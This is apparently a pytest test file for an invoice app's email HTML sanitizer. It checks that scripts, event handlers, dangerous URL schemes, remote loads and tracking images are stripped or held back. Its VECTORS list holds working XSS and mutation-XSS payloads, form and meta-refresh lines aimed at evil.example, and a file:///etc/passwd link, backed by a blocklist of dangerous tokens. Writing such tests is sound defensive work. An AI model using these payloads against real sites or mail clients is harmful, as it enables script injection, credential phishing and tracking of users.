"""HTML from strangers: what is left of it can do nothing, and its images wait to be asked for."""

from __future__ import annotations

import re

import pytest

from invoice_app.mail.understanding.html import MOST_DEEP, HtmlRefused, cleaned, shown_html

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:x>x</button>",
    "<base href='https://evil.example/'><a href='/pay'>payer</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>x</a><a href='data:text/html,x'>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='//evil.example'>x</a>",
    "<p style='background:url(https://evil.example/x.png);position:fixed;top:0'>x</p>",
    "<p style='color:expression(alert(1))'>x</p><p style='color:\\75rl(x)'>x</p>",
    "<body background='https://evil.example/x' onload=alert(1)><table background='https://evil.example/y'><td>x",
    "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video><audio src=x>",
    "<img srcset='https://evil.example/x 2x'><input type=image src='https://evil.example/y'>",
    "<template><script>x</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<x-y onclick=alert(1) id=session name=body class=modal>x</x-y>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
]
BAD = ("<script", "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<base",
       "<meta", "<link", "<style", "<video", "<audio", "<source", "<template", "javascript", "data:",
       "vbscript", "file:", "url(", "expression", "position", "background=", "srcset", "evil.example", " on",
       " id=", " class=", " name=")  # fmt: skip
_TAGS = re.compile(r"<[a-z][^>]*>")


@pytest.mark.parametrize("vector", VECTORS)
def test_what_could_act_or_load_is_gone(vector: str):
    for html in (cleaned(vector, deepest=3).html, shown_html(vector, {}, allow_remote=True)):
        tags = " ".join(_TAGS.findall(html)).lower()
        for bad in BAD:
            assert bad not in tags.replace(" noopener", "")


def test_links_lead_away_without_saying_where_from():
    html = cleaned("<a href='https://client.example/x' rel=opener target=_self>x</a>", deepest=1).html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert "opener " not in html.replace("noopener ", "")


def test_what_dresses_words_stays():
    html = "<h2 style='color: red'>Oui</h2><ul><li><b>9,975 %</b><br></li></ul><font color='#fff'>x</font>"
    assert cleaned(html, deepest=5).html == html.replace("'", '"').replace("color: red", "color:red")


def test_images_are_ours_by_their_name_and_others_wait_to_be_allowed():
    body = (
        '<img src="cid:logo@x" alt="logo"><img src="cid:gone"><img src="https://t.example/p.gif">'
        '<img src="https://t.example/p.gif"><img src="http://t.example/q.gif">'
    )
    clean = cleaned(body, deepest=1)
    assert clean.remote == 2
    ours = {"logo@x": "/files/mail/abc/inline"}
    assert shown_html(clean.html, ours, allow_remote=False) == (
        '<img src="/files/mail/abc/inline" alt="logo"><img><img><img><img>'
    )
    assert shown_html(clean.html, ours, allow_remote=True).count("t.example") == 3


def test_nobody_can_write_what_stands_for_our_images():
    written = '<p>src="https://0.invalid/7/"</p><img src="https://0.invalid/0/"><img src="cid:a%40b">'
    assert shown_html(written, {"a@b": '/x"><script>'}, allow_remote=False) == (
        '<p>src="https://0.invalid/7/"</p><img><img src="/x&quot;&gt;&lt;script&gt;">'
    )


def test_images_inside_the_html_are_counted_and_left_out():
    clean = cleaned('<p>x</p><img src="data:image/png;base64,iVBOR">', deepest=1)
    assert (clean.embedded, clean.html) == (1, "<p>x</p><img>")


def test_too_large_and_too_deep_are_refused_and_say_so():
    with pytest.raises(HtmlRefused, match="256 KiB"):
        cleaned("é" * 140_000, deepest=1)
    with pytest.raises(HtmlRefused, match="500"):
        cleaned("<div>", deepest=MOST_DEEP + 1)
